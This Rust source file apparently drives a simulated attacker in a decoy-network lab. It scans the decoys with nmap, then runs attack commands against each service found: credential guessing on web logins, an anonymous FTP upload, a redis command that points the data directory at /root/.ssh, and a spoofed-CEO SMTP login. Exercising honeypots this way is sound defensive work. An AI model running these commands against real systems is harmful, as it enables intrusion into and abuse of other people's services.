//! What the attacker does: a scan, then one client for each service it found.

use std::net::Ipv4Addr;

use decnet_proto::agent::DeckyStatus;
use lab::{attacker, process, workspace};

use crate::tty;

/// A client, and the service it goes for.
struct Attack {
    service: &'static str,
    script: fn(Ipv4Addr) -> Vec<String>,
}

const ATTACKS: [Attack; 5] = [
    Attack { service: "http", script: web_login },
    Attack { service: "https", script: web_secret },
    Attack { service: "ftp", script: upload },
    Attack { service: "redis", script: keys },
    Attack { service: "smtp", script: mail },
];

/// Runs all of it from the attacker's namespace.
pub(super) fn run(deckies: &[DeckyStatus]) {
    scan(deckies);
    for attack in &ATTACKS {
        if let Some(ip) = target(deckies, attack.service) {
            client(&(attack.script)(ip));
        }
    }
}

/// The address of the first decky with a service.
fn target(deckies: &[DeckyStatus], service: &str) -> Option<Ipv4Addr> {
    let has = |decky: &&DeckyStatus| decky.services.iter().any(|offered| offered.name == service);
    deckies.iter().find(has).and_then(|decky| decky.ip)
}

fn scan(deckies: &[DeckyStatus]) {
    let ips = deckies.iter().filter_map(|decky| decky.ip).map(|ip| ip.to_string());
    let ports = ["-sV", "-n", "-p", "21,25,80,443,587,6379", "--open", "--host-timeout", "90s"];
    client(&["nmap"].into_iter().chain(ports).map(str::to_owned).chain(ips).collect::<Vec<_>>());
}

/// Runs a client, whose failure is part of the show, and prints what it says.
fn client(words: &[String]) {
    let Some((program, arguments)) = words.split_first() else { return };
    println!("\n{} {}", tty::bold("attacker$"), tty::bold(&words.join(" ")));
    match attacker::command(program, arguments).output() {
        Ok(output) => {
            for line in process::both(&output).lines().filter(|line| !line.trim().is_empty()).take(40) {
                println!("    {}", tty::dim(line));
            }
        }
        Err(error) => println!("    {}", tty::red(&error.to_string())),
    }
}

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

fn web_login(ip: Ipv4Addr) -> Vec<String> {
    let url = format!("http://{ip}/wp-login.php");
    words(&["curl", "-sS", "-i", "-m", "10", "-d", "log=admin&pwd=Summer2026!", &url])
}

fn web_secret(ip: Ipv4Addr) -> Vec<String> {
    words(&["curl", "-sS", "-k", "-I", "-m", "10", "-u", "root:toor", &format!("https://{ip}/admin/")])
}

fn upload(ip: Ipv4Addr) -> Vec<String> {
    let file = workspace::root().join("README.md");
    let url = format!("ftp://{ip}/incoming/notes.txt");
    words(&[
        "curl",
        "-sS",
        "-m",
        "20",
        "-u",
        "anonymous:guest@example.net",
        "-T",
        &file.to_string_lossy(),
        &url,
    ])
}

fn keys(ip: Ipv4Addr) -> Vec<String> {
    words(&["redis-cli", "-h", &ip.to_string(), "CONFIG", "SET", "dir", "/root/.ssh"])
}

fn mail(ip: Ipv4Addr) -> Vec<String> {
    let ip = ip.to_string();
    let login = ["--auth", "LOGIN", "--auth-user", "mkeller", "--auth-password", "Winter2025"];
    let mut words =
        words(&["swaks", "--server", &ip, "--from", "ceo@example.net", "--to", "staff@example.org"]);
    words.extend(login.map(str::to_owned));
    words.extend(["--tls-optional", "--timeout", "10", "--hide-all"].map(str::to_owned));
    words
}
